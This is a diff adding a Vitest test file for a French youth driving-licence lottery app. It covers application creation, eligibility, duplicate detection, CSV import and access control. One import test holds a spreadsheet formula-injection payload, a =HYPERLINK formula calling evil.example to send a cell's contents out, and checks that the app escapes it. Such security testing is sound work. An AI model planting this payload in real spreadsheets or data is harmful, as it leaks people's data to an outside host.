@@ -1,0 +1,324 @@
+import { describe, expect, it } from "vitest";
+import { signedIn } from "../helpers/app.ts";
+import { makeCohort, makeMissionLocale, makeSchool, makeUser, makeYouth, PASSWORD, testDb } from "../helpers/factories.ts";
+import { makeApplicant, makeQuota } from "../helpers/lottery-factories.ts";
+
+async function counsellorSetUp() {
+  const cohort = await makeCohort();
+  const missionLocale = await makeMissionLocale();
+  await makeQuota(cohort.id, missionLocale.id, 10);
+  const referent = await makeUser("REFERENT", { missionLocaleId: missionLocale.id });
+  const as = await signedIn(referent.email, PASSWORD);
+  return { cohort, missionLocale, referent, as };
+}
+
+let seq = 0;
+function applicationForm(cohortId: string, extra: Record<string, string> = {}) {
+  seq += 1;
+  return {
+    cohortId,
+    firstName: "Jade",
+    lastName: `Moreau${seq}x`,
+    birthDate: "2004-02-14",
+    gender: "FEMALE",
+    email: `jade.moreau${seq}@exemple.fr`,
+    phone: `06 11 22 ${String(10 + (seq % 89)).padStart(2, "0")} ${String(seq % 100).padStart(2, "0")}`,
+    employmentStatus: "EMPLOYEE",
+    professionalProject: "Auxiliaire de vie : visites à domicile en zone rurale",
+    avail1From: "17:30",
+    avail1To: "20:00",
+    avail6From: "08:00",
+    avail6To: "12:00",
+    lotteryConsent: "on",
+    evaluationConsent: "on",
+    ...extra,
+  };
+}
+
+describe("application files", () => {
+  it("a new application — by a counsellor — creates the youth with an AUT ref, the file ELIGIBLE, and an audit event", async () => {
+    const { cohort, missionLocale, referent, as } = await counsellorSetUp();
+    const form = applicationForm(cohort.id);
+
+    const response = await as.agent.post("/applications").type("form").send({ ...form, _csrf: as.csrf });
+
+    expect(response.status).toBe(303);
+    const id = response.headers.location!.split("/").pop()!;
+    const application = await testDb.application.findUniqueOrThrow({ where: { id }, include: { youth: true } });
+    expect(application.status).toBe("ELIGIBLE");
+    expect(application.youth.ref).toMatch(/^AUT-2026-\d{4,}$/);
+    expect(application.youth.missionLocaleId).toBe(missionLocale.id);
+    expect(application.youth.referentId).toBe(referent.id);
+    expect(application.youth.phone).toMatch(/^06\d{8}$/);
+    expect(JSON.parse(application.youth.weeklyAvailability)).toEqual([
+      { day: 1, from: "17:30", to: "20:00" },
+      { day: 6, from: "08:00", to: "12:00" },
+    ]);
+    expect(application.youth.lotteryConsentAt).toBeInstanceOf(Date);
+    expect(await testDb.auditEvent.count({ where: { entityId: id, action: "APPLICATION_CREATED" } })).toBe(1);
+    const page = await as.agent.get(`/applications/${id}`);
+    expect(page.text).toContain("Éligibilité au tirage : éligible");
+    expect(page.text).toContain("A 22 ans le 01/07/2026, jour du tirage");
+  });
+
+  it("new applications — one after the other — get distinct, increasing refs", async () => {
+    const { cohort, as } = await counsellorSetUp();
+    const refs = [];
+    for (let i = 0; i < 2; i += 1) {
+      const response = await as.agent.post("/applications").type("form").send({ ...applicationForm(cohort.id), _csrf: as.csrf });
+      const application = await testDb.application.findUniqueOrThrow({ where: { id: response.headers.location!.split("/").pop()! }, include: { youth: true } });
+      refs.push(application.youth.ref);
+    }
+    expect(new Set(refs).size).toBe(2);
+    expect(Number(refs[1]!.slice(9))).toBe(Number(refs[0]!.slice(9)) + 1);
+  });
+
+  it("a new application — with bad input — comes back (422) with French messages beside the fields and what was typed", async () => {
+    const { cohort, as } = await counsellorSetUp();
+    const response = await as.agent.post("/applications").type("form").send({
+      ...applicationForm(cohort.id, { firstName: "Élodie", lastName: "", birthDate: "31/02/2004", phone: "123", avail2From: "09:00" }),
+      _csrf: as.csrf,
+    });
+    expect(response.status).toBe(422);
+    expect(response.text).toContain("Saisissez le nom.");
+    expect(response.text).toContain("Saisissez une date de naissance valide");
+    expect(response.text).toContain("numéro de téléphone français");
+    expect(response.text).toContain("Indiquez l&#39;heure de début et l&#39;heure de fin");
+    expect(response.text).toContain('value="Élodie"');
+    expect(response.text).toContain('aria-invalid="true"');
+    expect(response.text).toContain("Le tirage au sort.");
+  });
+
+  it("a new application — with an unknown field — is refused (422)", async () => {
+    const { cohort, as } = await counsellorSetUp();
+    const response = await as.agent.post("/applications").type("form").send({ ...applicationForm(cohort.id), status: "SELECTED", _csrf: as.csrf });
+    expect(response.status).toBe(422);
+  });
+
+  it("a possible duplicate — same last name and birth date — is shown before saving, then created only when confirmed", async () => {
+    const { cohort, missionLocale, as } = await counsellorSetUp();
+    const existing = await makeApplicant(missionLocale.id, cohort.id, { lastName: "Le Goff", birthDate: new Date("2003-09-09T00:00:00Z") });
+    const form = applicationForm(cohort.id, { lastName: "LEGOFF", birthDate: "2003-09-09" });
+
+    const first = await as.agent.post("/applications").type("form").send({ ...form, _csrf: as.csrf });
+    expect(first.status).toBe(422);
+    expect(first.text).toContain("Ce dossier existe peut-être déjà");
+    expect(first.text).toContain(existing.youth.ref);
+    expect(first.text).toContain("même nom et même date de naissance");
+    expect(await testDb.youth.count({ where: { lastName: "LEGOFF" } })).toBe(0);
+
+    const confirmed = await as.agent.post("/applications").type("form").send({ ...form, confirmDuplicate: "on", _csrf: as.csrf });
+    expect(confirmed.status).toBe(303);
+    expect(await testDb.youth.count({ where: { lastName: "LEGOFF" } })).toBe(1);
+  });
+
+  it("a possible duplicate — in another Mission Locale, same e-mail — is counted without showing the other file", async () => {
+    const { cohort, as } = await counsellorSetUp();
+    const other = await makeMissionLocale();
+    const hidden = await makeApplicant(other.id, cohort.id, { lastName: "Cachée", email: "meme.adresse@exemple.fr" });
+    const response = await as.agent.post("/applications").type("form").send({ ...applicationForm(cohort.id, { email: "Meme.Adresse@exemple.fr" }), _csrf: as.csrf });
+    expect(response.status).toBe(422);
+    expect(response.text).toContain("dans une autre Mission Locale");
+    expect(response.text).not.toContain(hidden.youth.ref);
+    expect(response.text).not.toContain("Cachée");
+  });
+
+  it("eligibility — a youth aged 27 on the draw day, without consent — is INELIGIBLE with each reason", async () => {
+    const { cohort, as } = await counsellorSetUp();
+    const response = await as.agent.post("/applications").type("form").send({
+      ...applicationForm(cohort.id, { birthDate: "1999-01-15", evaluationConsent: "" }),
+      _csrf: as.csrf,
+    });
+    const id = response.headers.location!.split("/").pop()!;
+    expect((await testDb.application.findUniqueOrThrow({ where: { id } })).status).toBe("INELIGIBLE");
+    const page = await as.agent.get(`/applications/${id}`);
+    expect(page.text).toContain("non éligible");
+    expect(page.text).toContain("Aura 27 ans le 01/07/2026, jour du tirage : il faut avoir de 18 à 25 ans.");
+    expect(page.text).toContain("L&#39;accord pour l&#39;évaluation et ses enquêtes de suivi n&#39;est pas recueilli.");
+  });
+
+  it("the list — as a counsellor — shows only their Mission Locale, filters by status and searches", async () => {
+    const { cohort, missionLocale, as } = await counsellorSetUp();
+    const other = await makeMissionLocale();
+    const mine = await makeApplicant(missionLocale.id, cohort.id, { lastName: "Visible" });
+    const notMine = await makeApplicant(other.id, cohort.id, { lastName: "Invisible" });
+    const all = await as.agent.get(`/applications?cohortId=${cohort.id}`);
+    expect(all.text).toContain(mine.youth.ref);
+    expect(all.text).not.toContain(notMine.youth.ref);
+    const search = await as.agent.get(`/applications?q=${encodeURIComponent(mine.youth.ref.toLowerCase())}`);
+    expect(search.text).toContain(mine.youth.ref);
+    const filtered = await as.agent.get(`/applications?cohortId=${cohort.id}&status=SELECTED`);
+    expect(filtered.text).not.toContain(mine.youth.ref);
+  });
+
+  it("an application — of another Mission Locale — is 404 to a counsellor (read, edit, update)", async () => {
+    const { cohort, as } = await counsellorSetUp();
+    const other = await makeMissionLocale();
+    const { application } = await makeApplicant(other.id, cohort.id);
+    expect((await as.agent.get(`/applications/${application.id}`)).status).toBe(404);
+    expect((await as.agent.get(`/applications/${application.id}/edit`)).status).toBe(404);
+    expect((await as.agent.post(`/applications/${application.id}`).type("form").send({ ...applicationForm(cohort.id), _csrf: as.csrf })).status).toBe(404);
+  });
+
+  it("applications — as a school, a youth, the research team — are 403", async () => {
+    const { cohort, missionLocale } = await counsellorSetUp();
+    const { application, youth } = await makeApplicant(missionLocale.id, cohort.id);
+    const school = await makeSchool(missionLocale.id);
+    for (const user of [await makeUser("SCHOOL", { drivingSchoolId: school.id }), await makeUser("YOUTH", { youthId: youth.id }), await makeUser("EVALUATOR")]) {
+      const { agent, csrf } = await signedIn(user.email, PASSWORD);
+      expect((await agent.get("/applications")).status).toBe(403);
+      expect((await agent.get(`/applications/${application.id}`)).status).toBe(403);
+      expect((await agent.post("/applications").type("form").send({ ...applicationForm(cohort.id), _csrf: csrf })).status).toBe(403);
+    }
+  });
+
+  it("an edit — of contact details — is saved and audited with the changed fields", async () => {
+    const { cohort, as } = await counsellorSetUp();
+    const created = await as.agent.post("/applications").type("form").send({ ...applicationForm(cohort.id), _csrf: as.csrf });
+    const id = created.headers.location!.split("/").pop()!;
+    const edit = await as.agent.get(`/applications/${id}/edit`);
+    expect(edit.status).toBe(200);
+    expect(edit.text).toContain('value="17:30"');
+
+    const response = await as.agent.post(`/applications/${id}`).type("form").send({ ...applicationForm(cohort.id, { city: "Olivet", professionalProject: "" }), _csrf: as.csrf });
+
+    expect(response.status).toBe(303);
+    const application = await testDb.application.findUniqueOrThrow({ where: { id }, include: { youth: true } });
+    expect(application.youth.city).toBe("Olivet");
+    expect(application.status).toBe("INELIGIBLE");
+    const audit = await testDb.auditEvent.findFirstOrThrow({ where: { entityId: id, action: "APPLICATION_UPDATED" } });
+    expect(JSON.parse(audit.details!).changed).toContain("city");
+  });
+
+  it("an edit — of the birth date after the freeze — is refused (422): the frozen list cannot change", async () => {
+    const { cohort, missionLocale, as } = await counsellorSetUp();
+    const created = await as.agent.post("/applications").type("form").send({ ...applicationForm(cohort.id), _csrf: as.csrf });
+    const id = created.headers.location!.split("/").pop()!;
+    await testDb.lotteryFreeze.create({ data: { cohortId: cohort.id, missionLocaleId: missionLocale.id, listDigest: "0".repeat(64) } });
+    expect((await as.agent.get(`/applications/${id}/edit`)).text).toContain("La liste du tirage est figée");
+
+    const response = await as.agent.post(`/applications/${id}`).type("form").send({ ...applicationForm(cohort.id, { birthDate: "2003-01-01" }), _csrf: as.csrf });
+
+    expect(response.status).toBe(422);
+    expect(response.text).toContain("ne peut plus changer");
+    expect((await testDb.application.findUniqueOrThrow({ where: { id }, include: { youth: true } })).youth.birthDate.toISOString()).toBe("2004-02-14T00:00:00.000Z");
+    const phoneChange = await as.agent.post(`/applications/${id}`).type("form").send({ ...applicationForm(cohort.id, { phone: "0700000000" }), _csrf: as.csrf });
+    expect(phoneChange.status).toBe(303);
+  });
+});
+
+const HEADER = "nom;prenom;date_naissance;genre;email;telephone;code_postal;ville;situation;projet_professionnel;accord_tirage;accord_evaluation";
+
+describe("CSV import", () => {
+  it("an import — UTF-8 with BOM, `;` — creates every line in one go, with AUT refs and audit events", async () => {
+    const { cohort, missionLocale, as } = await counsellorSetUp();
+    const csv = `\uFEFF${HEADER}\nAlpha;Zoé;14/02/2004;F;zoe.alpha@exemple.fr;06 10 00 00 01;45000;Orléans;JOB_SEEKER;Aide-soignante;oui;oui\nBeta;Yanis;2002-11-03;H;;;45100;Orléans;Apprenti·e;"Boulanger ; horaires de nuit";oui;non\n`;
+
+    const response = await as.agent.post("/applications/import").type("form").send({ cohortId: cohort.id, missionLocaleId: missionLocale.id, csv, _csrf: as.csrf });
+
+    expect(response.status).toBe(303);
+    const youths = await testDb.youth.findMany({ where: { lastName: { in: ["Alpha", "Beta"] } }, include: { applications: true }, orderBy: { lastName: "asc" } });
+    expect(youths.map((y) => [y.firstName, y.applications[0]!.status, y.employmentStatus])).toEqual([
+      ["Zoé", "ELIGIBLE", "JOB_SEEKER"],
+      ["Yanis", "INELIGIBLE", "APPRENTICE"],
+    ]);
+    expect(youths[1]!.professionalProject).toBe("Boulanger ; horaires de nuit");
+    expect(youths.every((y) => /^AUT-2026-\d{4,}$/.test(y.ref))).toBe(true);
+    expect(await testDb.auditEvent.count({ where: { action: "APPLICATION_CREATED", entityId: { in: youths.map((y) => y.applications[0]!.id) } } })).toBe(2);
+  });
+
+  it("an import — with `,` and no BOM — is read the same way", async () => {
+    const { cohort, missionLocale, as } = await counsellorSetUp();
+    const csv = `${HEADER.replaceAll(";", ",")}\nGamma,Luc,01/01/2005,H,,,,,STUDENT,"Électricien, en alternance",oui,oui`;
+    const response = await as.agent.post("/applications/import").type("form").send({ cohortId: cohort.id, missionLocaleId: missionLocale.id, csv, _csrf: as.csrf });
+    expect(response.status).toBe(303);
+    expect((await testDb.youth.findFirstOrThrow({ where: { lastName: "Gamma" } })).professionalProject).toBe("Électricien, en alternance");
+  });
+
+  it("an import — with one bad line among good ones — is refused whole (422), reports every bad line and writes nothing", async () => {
+    const { cohort, missionLocale, as } = await counsellorSetUp();
+    const before = await testDb.youth.count();
+    const csv = [
+      HEADER,
+      "Delta;Anna;14/02/2004;F;;;;;JOB_SEEKER;Coiffeuse;oui;oui",
+      "Epsilon;;14/02/2004;F;;;;;JOB_SEEKER;Coiffeuse;oui;oui",
+      "Zeta;Paul;32/13/2004;H;;;;;JOB_SEEKER;Plombier;oui;oui",
+      "Eta;Noé;01/01/1990;H;;;;;JOB_SEEKER;Plombier;oui;oui",
+      "Delta;Anna;14/02/2004;F;;;;;JOB_SEEKER;Coiffeuse;oui;oui",
+    ].join("\r\n");
+
+    const response = await as.agent.post("/applications/import").type("form").send({ cohortId: cohort.id, missionLocaleId: missionLocale.id, csv, _csrf: as.csrf });
+
+    expect(response.status).toBe(422);
+    expect(response.text).toContain("Rien n&#39;a été enregistré");
+    expect(response.text).toContain("Champ obligatoire manquant : prénom.");
+    expect(response.text).toContain("Date de naissance invalide « 32/13/2004 »");
+    expect(response.text).toContain("Âge hors limites : 36 ans");
+    expect(response.text).toContain("Doublon de la ligne 2");
+    for (const line of [3, 4, 5, 6]) expect(response.text).toContain(`<th scope="row">${line}</th>`);
+    expect(await testDb.youth.count()).toBe(before);
+  });
+
+  it("an import — a line matching a file already on record — is refused as a duplicate", async () => {
+    const { cohort, missionLocale, as } = await counsellorSetUp();
+    const existing = await makeApplicant(missionLocale.id, cohort.id, { lastName: "Theta", birthDate: new Date("2004-02-14T00:00:00Z") });
+    const csv = `${HEADER}\nTHETA;Ilan;14/02/2004;H;;;;;JOB_SEEKER;Peintre;oui;oui`;
+    const response = await as.agent.post("/applications/import").type("form").send({ cohortId: cohort.id, missionLocaleId: missionLocale.id, csv, _csrf: as.csrf });
+    expect(response.status).toBe(422);
+    expect(response.text).toContain(`Doublon possible du dossier ${existing.youth.ref}`);
+  });
+
+  it("an import — with =HYPERLINK(…) in a field — stores it as typed and prints it escaped", async () => {
+    const { cohort, missionLocale, as } = await counsellorSetUp();
+    const injection = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")';
+    const csv = `${HEADER}\nIota;Mia;14/02/2004;F;;;;;JOB_SEEKER;"${injection.replaceAll('"', '""')}";oui;oui`;
+
+    const response = await as.agent.post("/applications/import").type("form").send({ cohortId: cohort.id, missionLocaleId: missionLocale.id, csv, _csrf: as.csrf });
+
+    expect(response.status).toBe(303);
+    const youth = await testDb.youth.findFirstOrThrow({ where: { lastName: "Iota" }, include: { applications: true } });
+    expect(youth.professionalProject).toBe(injection);
+    const page = await as.agent.get(`/applications/${youth.applications[0]!.id}`);
+    expect(page.text).toContain("=HYPERLINK(&#34;http://evil.example/?x=&#34;&amp;A1,&#34;Cliquez&#34;)");
+    expect(page.text).not.toContain('=HYPERLINK("http');
+  });
+
+  it("an import — into a stratum already frozen — is refused (422)", async () => {
+    const { cohort, missionLocale, as } = await counsellorSetUp();
+    await testDb.lotteryFreeze.create({ data: { cohortId: cohort.id, missionLocaleId: missionLocale.id, listDigest: "0".repeat(64) } });
+    const csv = `${HEADER}\nKappa;Léo;14/02/2004;H;;;;;JOB_SEEKER;Peintre;oui;oui`;
+    const response = await as.agent.post("/applications/import").type("form").send({ cohortId: cohort.id, missionLocaleId: missionLocale.id, csv, _csrf: as.csrf });
+    expect(response.status).toBe(422);
+    expect(await testDb.youth.count({ where: { lastName: "Kappa" } })).toBe(0);
+  });
+
+  it("an import — by a counsellor, for another Mission Locale — is refused (422), nothing written", async () => {
+    const { cohort, as } = await counsellorSetUp();
+    const other = await makeMissionLocale();
+    const csv = `${HEADER}\nLambda;Léo;14/02/2004;H;;;;;JOB_SEEKER;Peintre;oui;oui`;
+    const response = await as.agent.post("/applications/import").type("form").send({ cohortId: cohort.id, missionLocaleId: other.id, csv, _csrf: as.csrf });
+    expect(response.status).toBe(422);
+    expect(await testDb.youth.count({ where: { lastName: "Lambda" } })).toBe(0);
+  });
+
+  it("the import page — links the sample file, which imports cleanly", async () => {
+    const { cohort, missionLocale, as } = await counsellorSetUp();
+    const page = await as.agent.get("/applications/import");
+    expect(page.text).toContain('href="/public/samples/candidatures.csv"');
+    const sample = await as.agent.get("/public/samples/candidatures.csv");
+    expect(sample.status).toBe(200);
+    const response = await as.agent.post("/applications/import").type("form").send({ cohortId: cohort.id, missionLocaleId: missionLocale.id, csv: sample.text, _csrf: as.csrf });
+    expect(response.status).toBe(303);
+  });
+
+  it("the import — as a school or a youth — is 403", async () => {
+    const { missionLocale } = await counsellorSetUp();
+    const school = await makeSchool(missionLocale.id);
+    const youth = await makeYouth(missionLocale.id);
+    for (const user of [await makeUser("SCHOOL", { drivingSchoolId: school.id }), await makeUser("YOUTH", { youthId: youth.id })]) {
+      const { agent, csrf } = await signedIn(user.email, PASSWORD);
+      expect((await agent.get("/applications/import")).status).toBe(403);
+      expect((await agent.post("/applications/import").type("form").send({ csv: "x", _csrf: csrf })).status).toBe(403);
+    }
+  });
+});
